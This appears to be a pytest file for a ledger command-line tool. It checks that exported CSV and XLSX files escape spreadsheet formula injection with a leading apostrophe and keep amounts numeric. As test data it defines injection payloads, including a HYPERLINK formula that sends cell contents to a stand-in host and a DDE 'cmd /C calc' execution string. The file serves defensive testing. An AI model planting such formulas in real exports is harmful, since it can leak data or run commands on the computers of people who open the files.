"""Spreadsheet formula injection: a text a spreadsheet would run as a formula (a member's
name `=HYPERLINK(...)`, a unit `=cmd|' /C calc'!A0`, an id `@SUM(...)`) leaves every file
the ledger writes neutralised by a leading apostrophe: the bank file, the rejects file, the
trail as CSV and the XLSX statement. Amounts, negative ones too, stay numbers."""

import csv
from pathlib import Path

from cli_runner import Ledger, create_scheme
from openpyxl import load_workbook

NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
UNIT = "=cmd|' /C calc'!A0"
MEMBER = "@SUM(1+1)"


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_every_exported_file_neutralises_what_a_spreadsheet_would_run(
    ledger: Ledger, db: str, tmp_path: Path
) -> None:
    create_scheme(ledger, db)
    on = ("--date", "2025-02-01")
    ledger.ok(db, "enrol", MEMBER, "--period", "1", "--county", "C1", "--unit", UNIT,
              "--name", NAME, "--bank-account", "6222021204001234567", *on)  # fmt: skip
    ledger.ok(db, "pay-premium", MEMBER, "--period", "1", "--receipt", "R1", *on)
    ledger.ok(db, "claim", "submit", MEMBER, "--period", "1", "--self-paid", "2000",
              "--claim-id", "S1", *on)  # fmt: skip
    ledger.ok(db, "--actor", "approver", "claim", "approve", "S1", *on)

    bank = tmp_path / "bank.csv"
    ledger.ok(db, "payouts", "export", "--batch", "2025-03", "--out", str(bank),
              "--date", "2025-03-01")  # fmt: skip
    [header, line] = rows(bank)
    assert line[header.index("member_id")] == "'" + MEMBER
    assert line[header.index("name")] == "'" + NAME
    assert line[header.index("amount")] == "280.00"

    trail = tmp_path / "trail.csv"
    ledger.ok(db, "audit", "trail", "--member", MEMBER, "--csv", "--out", str(trail))
    written = rows(trail)
    amounts = [r[-1] for r in written[1:] if r[-1]]
    assert "-280.00" in amounts  # a credit, a number still
    assert all(not cell.startswith(("=", "@", "+")) for r in written for cell in r)

    sheet = tmp_path / "statement.xlsx"
    ledger.ok(db, "statement", "--period", "1", "--format", "xlsx", "--units", "--out", str(sheet))
    book = load_workbook(sheet)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    assert "'" + UNIT in {c.value for c in cells}


def test_a_rejects_file_neutralises_the_cells_it_gives_back(
    ledger: Ledger, db: str, tmp_path: Path
) -> None:
    create_scheme(ledger, db)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "roster_line,member_id,period,county,unit,enrolled_on\n"
        f'1,{MEMBER},1,C1,"{UNIT}",not-a-date\n',
        encoding="utf-8",
    )
    rejects = tmp_path / "bad.csv"
    ledger(db, "import", "enrolments", str(roster), "--partial", "--rejects", str(rejects))
    [header, line] = rows(rejects)
    assert line[header.index("member_id")] == "'" + MEMBER
    assert line[header.index("unit")] == "'" + UNIT
